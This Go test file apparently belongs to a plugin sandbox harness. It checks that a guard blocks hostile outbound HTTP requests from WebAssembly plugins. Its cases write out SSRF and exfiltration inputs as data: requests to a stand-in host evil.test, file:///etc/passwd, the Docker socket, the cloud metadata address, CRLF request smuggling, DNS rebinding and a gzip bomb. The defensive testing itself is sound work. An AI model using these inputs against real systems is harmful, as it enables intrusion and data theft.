package hostile

import (
	"bytes"
	"compress/gzip"
	"errors"
	"fmt"
	"net/http"
	"strings"

	"github.com/medplug/medplug/harness"
	"github.com/medplug/medplug/harness/hostenv"
	"github.com/medplug/medplug/harness/wasm"
)

// The one host that egress cases may reach, on a network where it has a public address.
const (
	goodHost = "http://api.example.org"
	goodAddr = "93.184.215.14"
)

// attempt is a plugin that sends one request and what must come of it.
type attempt struct {
	name, about string
	request     string   // JSON handed to http_request
	hosts       []string // allowed; nil: goodHost
	addrs       []string // what api.example.org resolves to, lookup by lookup; nil: goodAddr
	answer      func(r *http.Request) string
	sent        int // how many requests may reach the server
	expect      Containment
	check       func(n *network) error
}

// egressTricks try to reach what they may not, and to get out what they may not.
func egressTricks() []Case {
	traps := func(reason string) Containment { return trapped(harness.PhaseCall, reason) }
	to := func(url string) string { return fmt.Sprintf(`{"url":%q,"method":"GET"}`, url) }
	const notAllowed, notPublic = "not among those allowed", "not public"
	refused := func(name, about, url, reason string) attempt {
		return attempt{name: name, about: about, request: to(url), expect: traps(reason)}
	}
	address := func(a string) attempt {
		return attempt{name: "resolves-to/" + a, about: "has an allowed name resolve to " + a, request: to(goodHost + "/"), addrs: []string{a}, expect: traps(notPublic)}
	}
	redirect := func(name, target, reason string) attempt {
		return attempt{name: "redirect/" + name, about: "is redirected by the allowed host to " + target, request: to(goodHost + "/start"), sent: 1,
			answer: func(*http.Request) string {
				return "HTTP/1.1 302 Found\r\nLocation: " + target + "\r\nContent-Length: 0\r\n\r\n"
			}, expect: traps(reason)}
	}
	method := func(m string) attempt {
		return attempt{name: "method/" + m, about: "uses the method " + m + ", by which a host may be made to do more than answer", request: fmt.Sprintf(`{"url":"%s/","method":%q}`, goodHost, m), expect: traps("method")}
	}
	attempts := []attempt{
		{name: "allowed", about: "reaches the host that it may reach: the others fail for what they do, not for the network", request: to(goodHost + "/v1"), sent: 1, expect: harmless(answers)},
		refused("other-host", "asks another host", "http://evil.test/?patient=1", notAllowed),
		refused("subdomain", "asks below the allowed host", "http://a.api.example.org/", notAllowed),
		refused("suffix", "asks a host whose name begins as the allowed one", "http://api.example.org.evil.test/", notAllowed),
		refused("other-port", "asks the allowed host on another port", "http://api.example.org:8080/", notAllowed),
		refused("other-scheme", "asks the allowed host by another scheme", "https://api.example.org/", notAllowed),
		refused("userinfo-as-host", "writes the allowed host where the user's name goes", "http://api.example.org@evil.test/", "user information"),
		refused("userinfo", "sends a name and password", "http://patient:42@api.example.org/", "user information"),
		refused("file", "reads a file", "file:///etc/passwd", "scheme"),
		refused("data", "takes a text for a response", "data:text/plain,ok", "scheme"),
		refused("gopher", "writes bytes of its own to a server by gopher", "gopher://api.example.org:80/_GET", "scheme"),
		refused("unix-socket", "asks the container engine's socket", "unix:///var/run/docker.sock", "scheme"),
		refused("no-scheme", "leaves the scheme out", "//api.example.org/", "scheme"),
		refused("backslash", "parts host and path by a backslash, which readers take differently", `http://api.example.org\@evil.test/`, ""),
		refused("trailing-dot", "writes the allowed host with a dot at its end", "http://api.example.org./", "ASCII"),
		refused("wide-letters", "writes the allowed host in full-width letters", "http://ａｐｉ.example.org/", "ASCII"),
		refused("newline", "puts a second request into the URL", "http://api.example.org/ HTTP/1.1\r\nHost: evil.test\r\n\r\nGET /", "not a valid request"),
		refused("loopback-name", "asks localhost", "http://localhost:6379/", notAllowed),
		refused("metadata", "asks the cloud's metadata service", "http://169.254.169.254/latest/meta-data/", notAllowed),
		refused("decimal-address", "writes 127.0.0.1 as one number", "http://2130706433/", notAllowed),
		refused("zone", "asks a link-local address by its interface", "http://[fe80::1%25eth0]/", ""),
		{name: "metadata-allowed", about: "is allowed the metadata service by mistake", request: to("http://169.254.169.254/"), hosts: []string{"http://169.254.169.254"}, expect: traps(notPublic)},
		{name: "loopback-allowed", about: "is allowed localhost by mistake", request: to("http://[::1]:80/"), hosts: []string{"http://[::1]"}, expect: traps(notPublic)},
		{name: "no-hosts", about: "has no host allowed at all", request: to(goodHost + "/"), hosts: []string{}, expect: traps("no host is allowed")},
		{name: "rebinding", about: "has the name resolve to a public address first and to loopback at the next hop", request: to(goodHost + "/start"), addrs: []string{goodAddr, "127.0.0.1"}, sent: 1,
			answer: func(*http.Request) string {
				return "HTTP/1.1 307 Temporary Redirect\r\nLocation: /again\r\nContent-Length: 0\r\n\r\n"
			}, expect: traps(notPublic)},
		redirect("link-local", "http://169.254.169.254/latest/meta-data/", notAllowed),
		redirect("loopback", "http://127.0.0.1:2375/containers/json", notAllowed),
		redirect("other-host", "http://evil.test/collect", notAllowed),
		redirect("other-scheme", "https://api.example.org/", notAllowed),
		redirect("userinfo", "http://a:b@api.example.org/", "user information"),
		redirect("file", "file:///etc/passwd", "scheme"),
		{name: "redirect/loop", about: "is redirected to where it is, for ever", request: to(goodHost + "/"), sent: 6, answer: func(*http.Request) string {
			return "HTTP/1.1 302 Found\r\nLocation: /\r\nContent-Length: 0\r\n\r\n"
		}, expect: traps("redirects")},
		method("CONNECT"), method("TRACE"), method("PURGE"),
		{name: "method/split", about: "puts a second request into the method", request: `{"url":"` + goodHost + `/","method":"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\nPOST"}`, expect: traps("")},
		{name: "header/split", about: "puts a second request into a header", request: `{"url":"` + goodHost + `/","headers":{"X":"1\r\nHost: evil.test\r\n\r\nGET / HTTP/1.1"}}`, expect: traps("header")},
		{name: "header/name", about: "names a patient in the name of a header that is none", request: `{"url":"` + goodHost + `/","headers":{"João da Silva 1":"x"}}`, expect: traps("header")},
		{name: "header/host", about: "names another host in the Host header", request: `{"url":"` + goodHost + `/","headers":{"Host":"evil.test","Transfer-Encoding":"chunked","Content-Length":"7"}}`, sent: 1,
			expect: harmless(answers), check: func(n *network) error {
				if _, r := n.seen(); r[0].Host != "api.example.org" || len(r[0].TransferEncoding) > 0 || r[0].ContentLength > 0 {
					return fmt.Errorf("the server was asked for %s, %v, %d bytes", r[0].Host, r[0].TransferEncoding, r[0].ContentLength)
				}
				return nil
			}},
		{name: "response/huge", about: "is answered with more than it may have", request: to(goodHost + "/"), sent: 1, answer: func(*http.Request) string {
			return "HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + strings.Repeat("x", 2<<20)
		}, expect: traps("more than")},
		{name: "response/zipped", about: "is answered with 32 MiB in 32 KiB", request: to(goodHost + "/"), sent: 1, answer: func(*http.Request) string { return zipped(32 << 20) }, expect: traps("more than")},
		{name: "response/headers", about: "is answered with headers without end", request: to(goodHost + "/"), sent: 1, answer: func(*http.Request) string {
			return "HTTP/1.1 200 OK\r\n" + strings.Repeat("X: "+strings.Repeat("y", 1000)+"\r\n", 1000) + "\r\n"
		}, expect: traps("header")},
		{name: "request/huge", about: "hands over a request of 256 KiB", request: "", expect: traps("64 KiB")},
		{name: "request/nested", about: "hands over a request nested ten thousand deep", request: `{"headers":` + strings.Repeat("[", 1000), expect: traps("not a JSON object")},
		{name: "request/number", about: "hands over a number for a URL", request: `{"url":1}`, expect: traps("not a JSON object")},
		{name: "request/none", about: "hands over an empty object", request: `{}`, expect: traps("")},
	}
	for _, a := range []string{
		"127.0.0.1", "10.0.0.8", "172.16.3.4", "192.168.1.1", "169.254.169.254", "0.0.0.0", "100.64.0.1", "224.0.0.1", "255.255.255.255",
		"::1", "::", "fe80::1", "fd00::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::",
	} {
		attempts = append(attempts, address(a))
	}
	var cases []Case
	for _, a := range attempts {
		cases = append(cases, a.asCase())
	}
	return append(cases, patience()...)
}

// asCase makes the case of an attempt: what is refused must be recorded as refused and must not have left.
func (a attempt) asCase() Case {
	n := &network{names: map[string][]string{"api.example.org": {goodAddr}}, answer: a.answer}
	if a.addrs != nil {
		n.names["api.example.org"] = a.addrs
	}
	if n.answer == nil {
		n.answer = func(*http.Request) string { return "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok" }
	}
	return Case{
		Name: "egress/" + a.name, About: a.about,
		Module: func() []byte {
			p := plugin("http_request")
			request := p.text(l0, a.request)
			if a.request == "" {
				request = p.filled("", ' ', 256<<10)
			}
			return p.entry(request, get(l0), i64(0), p.call("http_request"), drop, p.answers())
		},
		Limits: func(l *harness.Limits) {
			if l.Hosts = a.hosts; a.hosts == nil {
				l.Hosts = []string{goodHost}
			}
		},
		Host: func(h *hostenv.Host) {
			n.reset()
			h.Egress = &hostenv.Guard{Network: n}
		},
		Expect: a.expect.and(a.expect.Check, func(o Outcome) error {
			dialled, requests := n.seen()
			if len(dialled) > a.sent || len(requests) != a.sent {
				return fmt.Errorf("%d connections were made and %d requests sent, wanted %d", len(dialled), len(requests), a.sent)
			}
			for _, d := range dialled {
				if d.String() != goodAddr+":80" {
					return fmt.Errorf("it was connected to %s", d)
				}
			}
			if a.sent == 0 && a.expect.Kind == Trapped {
				for _, e := range o.Replies[0].Trace.Egress {
					if e.Refused == "" && !strings.Contains(o.Err.Error(), "not public") && !strings.Contains(o.Err.Error(), "header") {
						return errors.New("what was refused is recorded as sent")
					}
				}
			}
			if a.check != nil {
				return a.check(n)
			}
			return nil
		}),
	}
}

// zipped is a response whose n bytes of zeros were compressed.
func zipped(n int) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := z.Write(make([]byte, n)); err != nil {
		panic(err) // a buffer takes everything
	}
	z.Close()
	return fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%s", b.Len(), b.String())
}

// patience are requests that last longer than the call, or that are too many.
func patience() []Case {
	sends := func(name, about, answer string, hold bool, limits func(*harness.Limits), expect Containment, module func(p *specimen, request []byte) []byte) Case {
		n := &network{names: map[string][]string{"api.example.org": {goodAddr}}, answer: func(*http.Request) string { return answer }, hold: hold}
		return Case{
			Name: "egress/" + name, About: about, Expect: expect,
			Limits: func(l *harness.Limits) { l.Hosts = []string{goodHost}; limits(l) },
			Host:   func(h *hostenv.Host) { n.reset(); h.Egress = &hostenv.Guard{Network: n} },
			Module: func() []byte {
				p := plugin("http_request", "free")
				return module(p, cat(p.text(l0, `{"url":"`+goodHost+`/"}`), get(l0), i64(0), p.call("http_request")))
			},
		}
	}
	once := func(p *specimen, request []byte) []byte { return p.entry(request, drop, p.answers()) }
	unchanged := func(*harness.Limits) {}
	overdue := stopped(harness.ResourceTime, harness.PhaseCall)
	return []Case{
		sends("dripping-response", "waits for the rest of a response over a connection that stays open", "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nabc", true, soon, overdue, once),
		sends("silent-server", "waits for a server that never answers, past the end of the call", "", true, soon, overdue, once),
		sends("unfinished-response", "waits for the rest of a response that never comes", "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nabc", false, unchanged, trapped(harness.PhaseCall, "unexpected EOF"), once),
		sends("switched-protocols", "is answered that the connection now belongs to another protocol, over which no deadline watches", "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n", true, soon,
			trapped(harness.PhaseCall, "101"), once),
		sends("flood", "sends requests without end", "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", false, unchanged, trapped(harness.PhaseCall, "more than 32 requests"),
			func(p *specimen, request []byte) []byte { return p.entry(forever(request, drop), p.answers()) }),
		sends("while-initialising", "sends a request before it is asked anything, and only then", "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", false, unchanged,
			harmless(answers, func(o Outcome) error {
				if len(o.Replies[0].Trace.Egress) != 1 {
					return errors.New("the request is in no trace")
				}
				return nil
			}),
			func(p *specimen, request []byte) []byte {
				p.exported("_initialize", request, drop)
				return p.entry(p.answers())
			}),
		sends("at-load", "sends a request from its start section", "", true, soon, stopped(harness.ResourceTime, harness.PhaseInstantiate),
			func(p *specimen, request []byte) []byte {
				p.Start(p.Func(none, []wasm.ValType{wasm.I64, wasm.I64, wasm.I64, wasm.I64}, request, drop))
				return p.entry(p.answers())
			}),
	}
}
